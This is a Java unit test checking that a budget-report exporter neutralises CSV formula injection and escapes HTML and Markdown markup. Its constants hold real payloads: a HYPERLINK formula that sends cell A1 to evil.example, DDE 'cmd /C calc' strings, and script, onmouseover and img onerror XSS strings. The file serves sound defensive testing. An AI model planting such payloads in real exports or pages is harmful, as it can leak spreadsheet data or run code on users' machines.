package org.atlas.budget.reports.internal;

import static org.atlas.budget.reports.internal.ExportGoldenTest.export;
import static org.atlas.budget.reports.internal.Records.record;
import static org.atlas.budget.reports.internal.Requests.engine;
import static org.atlas.budget.reports.internal.Requests.request;
import static org.junit.Assert.assertEquals;
import static org.junit.Assert.assertFalse;
import static org.junit.Assert.assertTrue;

import java.io.IOException;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.TreeSet;

import com.google.gson.JsonArray;
import com.google.gson.JsonElement;
import com.google.gson.JsonParser;

import org.atlas.budget.api.model.ExportFormat;
import org.atlas.budget.api.model.GroupBy;
import org.atlas.budget.api.model.Report;
import org.atlas.budget.api.model.ReportType;
import org.junit.Test;

/** Hostile model names, user ids and tags against every exporter. */
public class ExportInjectionTest {

    static final String FORMULA_MODEL = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
    static final String SCRIPT_USER = "<script>alert(1)</script>";
    static final String ATTRIBUTE_TAG = "x\" onmouseover=\"alert(1)";
    static final String PLUS_USER = "+cmd|' /C calc'!A0";
    static final String AT_TAG = "@SUM(1+1)*cmd|' /C calc'!A0";
    static final String MINUS_TAG = "-2+3+cmd|' /C calc'!A0";
    static final String TAB_TAG = "\t=1+1";
    static final String CR_TAG = "\r=1+1";
    static final String PIPE_MODEL = "gpt|<img src=x onerror=alert(1)>";

    static Report hostile(GroupBy... groupBy) {
        InMemoryStore store = new InMemoryStore().add(
                record("2026-11-02T10:00:00Z", "openai", FORMULA_MODEL, SCRIPT_USER, "p1", "1.00", 10, 1,
                        ATTRIBUTE_TAG, AT_TAG),
                record("2026-11-02T11:00:00Z", "openai", PIPE_MODEL, PLUS_USER, "p1", "2.00", 10, 1,
                        MINUS_TAG),
                record("2026-11-02T12:00:00Z", "openai", "plain", "bob", "p1", "3.00", 10, 1));
        return engine(store).generate(request(ReportType.SUMMARY, "2026-11-02T00:00:00Z", "2026-11-03T00:00:00Z",
                null, null, groupBy));
    }

    @Test
    public void csvNeutralisesEveryFormulaCell() throws IOException {
        String csv = export(hostile(GroupBy.MODEL, GroupBy.USER), ExportFormat.CSV);
        List<List<String>> records = parseCsv(csv);
        Set<String> cells = new TreeSet<>();
        records.forEach(cells::addAll);

        assertTrue(cells.contains("'" + FORMULA_MODEL));
        assertTrue(cells.contains("'" + PLUS_USER));
        for (List<String> line : records) {
            for (String cell : line) {
                if (!cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0) {
                    assertTrue("a formula cell escaped neutralisation: " + cell, cell.matches("[+-]?\\d+(\\.\\d+)?"));
                }
            }
        }
    }

    @Test
    public void csvNeutralisesTagsStartingWithAtMinusTabAndCarriageReturn() throws IOException {
        assertEquals("'" + AT_TAG, CsvExporter.neutralise(AT_TAG));
        assertEquals("'" + MINUS_TAG, CsvExporter.neutralise(MINUS_TAG));
        assertEquals("'" + TAB_TAG, CsvExporter.neutralise(TAB_TAG));
        assertEquals("'" + CR_TAG, CsvExporter.neutralise(CR_TAG));
        // A carriage return also forces quoting (RFC 4180).
        assertEquals("\"'\r=1+1\"", CsvExporter.field(CR_TAG));
        // Numbers the exporter writes itself stay numbers.
        assertEquals("-12.50", CsvExporter.neutralise("-12.50"));
        assertEquals("+0.45", CsvExporter.neutralise("+0.45"));

        String csv = export(hostile(GroupBy.TAG), ExportFormat.CSV);
        Set<String> cells = new TreeSet<>();
        parseCsv(csv).forEach(cells::addAll);
        assertTrue(cells.contains("'" + AT_TAG));
        assertTrue(cells.contains("'" + MINUS_TAG));
        assertTrue(cells.contains(ATTRIBUTE_TAG));
    }

    @Test
    public void htmlEscapesEveryValueInTextAttributesAndTheChart() throws IOException {
        String html = export(hostile(GroupBy.MODEL, GroupBy.USER), ExportFormat.HTML)
                + export(hostile(GroupBy.TAG), ExportFormat.HTML);

        assertFalse(html.contains("<script"));
        assertFalse(html.contains("<img"));
        assertFalse(html.contains("\" onmouseover"));
        assertTrue(html.contains("&lt;script&gt;alert(1)&lt;/script&gt;"));
        assertTrue(html.contains("x&quot; onmouseover=&quot;alert(1)"));
        assertTrue(html.contains("<title>gpt|&lt;img src=x onerror=alert(1)&gt; / +cmd|&#39; /C calc&#39;!A0: 2.00</title>"));
    }

    @Test
    public void markdownKeepsTheTableShapeAndPassesNoHtml() throws IOException {
        String md = export(hostile(GroupBy.MODEL, GroupBy.USER), ExportFormat.MARKDOWN);

        assertFalse(md.contains("<script"));
        assertFalse(md.contains("<img"));
        long expected = -1;
        for (String line : md.split("\n")) {
            if (line.startsWith("|")) {
                // Unescaped pipes delimit cells: header, rule and rows have the same number.
                long pipes = line.replace("\\|", "").chars().filter(c -> c == '|').count();
                expected = expected < 0 ? pipes : expected;
                assertEquals(line, expected, pipes);
            }
        }
        assertTrue(md.contains("gpt\\|&lt;img src=x onerror=alert(1)&gt;"));
    }

    @Test
    public void jsonKeepsTheValuesExactAndEscapesMarkup() throws IOException {
        String json = export(hostile(GroupBy.MODEL, GroupBy.USER), ExportFormat.JSON);

        assertFalse(json.contains("<script"));
        List<String> keys = new ArrayList<>();
        for (JsonElement row : JsonParser.parseString(json).getAsJsonObject().getAsJsonArray("rows")) {
            JsonArray k = row.getAsJsonObject().getAsJsonArray("keys");
            k.forEach(e -> keys.add(e.getAsString()));
        }
        assertTrue(keys.contains(SCRIPT_USER));
        assertTrue(keys.contains(FORMULA_MODEL));
        assertTrue(keys.contains(PIPE_MODEL));
    }

    /** A strict RFC 4180 reader: CRLF records, quoted fields with doubled quotes. */
    static List<List<String>> parseCsv(String text) {
        List<List<String>> records = new ArrayList<>();
        List<String> fields = new ArrayList<>();
        StringBuilder field = new StringBuilder();
        int i = 0;
        while (i < text.length()) {
            char c = text.charAt(i);
            if (c == '"' && field.length() == 0) {
                i++;
                while (true) {
                    char q = text.charAt(i);
                    if (q == '"' && i + 1 < text.length() && text.charAt(i + 1) == '"') {
                        field.append('"');
                        i += 2;
                    } else if (q == '"') {
                        i++;
                        break;
                    } else {
                        field.append(q);
                        i++;
                    }
                }
            } else if (c == ',') {
                fields.add(field.toString());
                field.setLength(0);
                i++;
            } else if (c == '\r' && text.charAt(i + 1) == '\n') {
                fields.add(field.toString());
                field.setLength(0);
                records.add(fields);
                fields = new ArrayList<>();
                i += 2;
            } else {
                assertFalse("a bare line break in an unquoted field", c == '\r' || c == '\n');
                field.append(c);
                i++;
            }
        }
        assertTrue("the last record ends with CRLF", fields.isEmpty() && field.length() == 0);
        int width = records.get(0).size();
        records.forEach(r -> assertEquals("every record has the header's field count", width, r.size()));
        return records;
    }
}
